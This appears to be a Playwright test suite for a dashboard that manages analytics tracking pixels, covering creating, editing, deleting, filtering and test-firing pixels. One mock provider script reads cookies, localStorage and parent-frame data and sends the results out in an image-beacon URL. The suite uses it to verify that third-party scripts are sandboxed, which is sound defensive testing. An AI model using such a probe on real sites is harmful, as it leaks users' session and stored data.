import type { Page } from "@playwright/test";
import { api, expect, type Person, person, serverUrl, signIn, test } from "./fixtures";

let ada: Person;
const rows = (page: Page) => page.getByRole("list", { name: "Pixels" }).getByRole("listitem");

test.beforeEach(async ({ page }) => {
  ada = await person();
  await signIn(page, ada);
  await page.goto(`${serverUrl()}/dashboard/pixels`);
  await expect(page.getByText("No pixels yet")).toBeVisible();
});

const make = (name: string, tag: string) =>
  api(ada.key).post<{ id: number }>("/api/pixel/add", { type: "analyticspixel", name, tag });
const listed = async () => {
  const { json } = await api(ada.key).get<{ data: { pixels: { name: string }[] } }>("/api/pixels");
  return json.data.pixels.map(({ name }) => name);
};

test("a pixel is created with a valid tag, found, changed, used, deleted and restored", async ({ page }) => {
  await page.keyboard.press("c");
  const form = page.getByRole("dialog", { name: "New pixel" });
  await form.getByLabel("Provider").selectOption("Meta (Facebook)");
  await form.getByLabel("Name").fill("Shop");
  await form.getByLabel("Tag").fill("not a tag");
  await page.keyboard.press("Control+Enter");
  await expect(form.getByText(/must look like/i)).toBeVisible();
  await form.getByLabel("Tag").fill("318274659102834");
  await page.keyboard.press("Control+Enter");
  await expect(form).toBeHidden();
  await expect(rows(page)).toContainText(["Shop"]);
  await expect(rows(page)).not.toContainText("318274659102834");

  await make("Blog", "G-4KQ8ZW1X7T");
  await page.keyboard.press("/");
  await page.keyboard.type("sho");
  await page.waitForURL(/q=sho/);
  await expect(rows(page)).toHaveCount(1);
  await page.getByRole("heading", { name: "Pixels" }).click();
  await page.keyboard.press("j");
  await page.keyboard.press("e");
  const edit = page.getByRole("dialog", { name: "Edit pixel" });
  await edit.getByLabel("Name").fill("Shop visitors");
  await edit.getByRole("button", { name: /^Save/ }).click();
  await expect(rows(page)).toContainText(["Shop visitors"]);

  const { json } = await api(ada.key).get<{ data: { pixels: { id: number }[] } }>("/api/pixels?q=shop");
  await api(ada.key).post("/api/url/add", {
    url: "https://example.com/",
    pixels: json.data.pixels.map(({ id }) => id),
  });
  await page.reload();
  await expect(rows(page)).toContainText(["1 link"]);

  await page.keyboard.press("j");
  await page.keyboard.press("x");
  await expect(rows(page)).toHaveCount(0);
  expect(await listed()).toContain("Shop visitors");
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(rows(page)).toContainText(["Shop visitors"]);
});

test("a delete without Undo is sent when the page is left", async ({ page }) => {
  await make("Gone", "G-4KQ8ZW1X7T");
  await page.reload();
  await page.getByRole("button", { name: "Actions for Gone" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await expect(rows(page)).toHaveCount(0);
  await page.goto("about:blank");
  await expect.poll(listed).toEqual([]);
});

test("several pixels are deleted and restored together", async ({ page }) => {
  for (const name of ["One", "Two", "Three"]) await make(name, "G-4KQ8ZW1X7T");
  await page.reload();
  await page.getByRole("checkbox", { name: "Select One" }).check();
  await page.getByRole("checkbox", { name: "Select Two" }).check();
  await expect(page.getByText("2 selected")).toBeVisible();
  await page.getByRole("region", { name: "Selection" }).getByRole("button", { name: "Delete" }).click();
  await expect(rows(page)).toHaveCount(1);
  await page.getByRole("button", { name: "Undo" }).click();
  await expect(rows(page)).toHaveCount(3);
});

test("a filter is in the address and as a chip, and an empty result differs from an empty list", async ({
  page,
}) => {
  await make("One", "G-4KQ8ZW1X7T");
  await page.reload();
  await page.getByLabel("Provider").selectOption("TikTok");
  await page.waitForURL(/kind=shortvideopixel/);
  await expect(page.getByText("Nothing matches these filters.")).toBeVisible();
  await page.getByRole("button", { name: "Remove filter Provider: TikTok" }).click();
  await expect(rows(page)).toHaveCount(1);
  await page.goBack();
  await expect(rows(page)).toHaveCount(0);
});

test("leaving the form asks only when something would be lost", async ({ page }) => {
  await page.keyboard.press("c");
  const form = page.getByRole("dialog", { name: "New pixel" });
  await expect(form.getByLabel("Name")).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(form).toBeHidden();
  await page.keyboard.press("c");
  await form.getByLabel("Name").fill("Half");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Keep editing" }).click();
  await expect(form.getByLabel("Name")).toHaveValue("Half");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Discard" }).click();
  await expect(form).toBeHidden();
});

test.describe("trying a pixel", () => {
  const TAG = "G-4KQ8ZW1X7T";
  const SCRIPT = "https://www.googletagmanager.com/**";
  const REPORT = "https://region1.google-analytics.com/**";

  /** A provider's script that looks for what it must not reach, and reports what became of it. */
  const CURIOUS = `
const tried = [() => document.cookie, () => parent.document.title, () => localStorage.length, () => top.location.href]
  .map((look) => { try { return String(look()) } catch (error) { return error.name } });
new Image().src = "https://region1.google-analytics.com/g/collect?tried=" + tried;`;

  let ada: Person;
  test.beforeEach(async ({ page }) => {
    ada = await person();
    await signIn(page, ada);
    await api(ada.key).post("/api/pixel/add", { type: "analyticspixel", name: "Shop", tag: TAG });
    await page.goto(`${serverUrl()}/dashboard/pixels`);
  });

  /** Opens the test of the pixel from its row. */
  async function fire(page: Page) {
    await page.getByRole("button", { name: "Actions for Shop" }).click();
    await page.getByRole("menuitem", { name: "Test" }).click();
    return page.getByRole("dialog", { name: "Test Shop" });
  }

  test("a pixel that works is fired once, and its script reaches neither cookies nor the dashboard", async ({
    page,
  }) => {
    await page.route(SCRIPT, (route) => route.fulfill({ contentType: "text/javascript", body: CURIOUS }));
    const reported: string[] = [];
    await page.route(REPORT, (route) => {
      reported.push(route.request().url());
      return route.fulfill({ status: 204 });
    });
    const asked = page.waitForRequest(/googletagmanager/);
    const dialog = await fire(page);
    await expect(dialog.getByText("Google Analytics received the visit")).toBeVisible();
    const requests = dialog.getByRole("region", { name: "Requests sent" }).getByRole("listitem");
    await expect(requests).toHaveText([
      "www.googletagmanager.comscript",
      "region1.google-analytics.comreport",
    ]);
    const headers = await (await asked).allHeaders();
    expect((await asked).url()).toContain(TAG);
    expect([headers.cookie, headers.referer]).toEqual([undefined, undefined]);
    const errors = new URL(reported[0] ?? "").searchParams.get("tried");
    expect([reported.length, errors]).toEqual([1, "SecurityError,SecurityError,SecurityError,SecurityError"]);
  });

  test("a blocked pixel and a refused tag are reported as such", async ({ page }) => {
    await page.route(SCRIPT, (route) => route.abort());
    const dialog = await fire(page);
    await expect(dialog.getByText("No response")).toBeVisible();
    await page.unroute(SCRIPT);
    await page.route(SCRIPT, (route) => route.fulfill({ status: 404, body: "no such tag" }));
    await dialog.getByRole("button", { name: "Fire again" }).click();
    await expect(dialog.getByText("Google Analytics responded, but not with a script")).toBeVisible();
    await page.unroute(SCRIPT);
    await page.route(SCRIPT, (route) => route.fulfill({ contentType: "text/javascript", body: "" }));
    await dialog.getByRole("button", { name: "Fire again" }).click();
    await expect(dialog.getByText("The script loaded but sent nothing")).toBeVisible();
  });

  test("the form fires what is saved, and not what is being typed", async ({ page }) => {
    await page.route(SCRIPT, (route) => route.abort());
    await page.getByRole("button", { name: "Shop", exact: true }).click();
    const form = page.getByRole("dialog", { name: "Edit pixel" });
    await form.getByLabel("Tag").fill("G-0000000000");
    await expect(form.getByRole("button", { name: "Test" })).toBeDisabled();
    await form.getByLabel("Tag").fill(TAG);
    await form.getByRole("button", { name: "Test" }).click();
    await expect(page.getByRole("dialog", { name: "Test Shop" }).getByText("No response")).toBeVisible();
  });
});
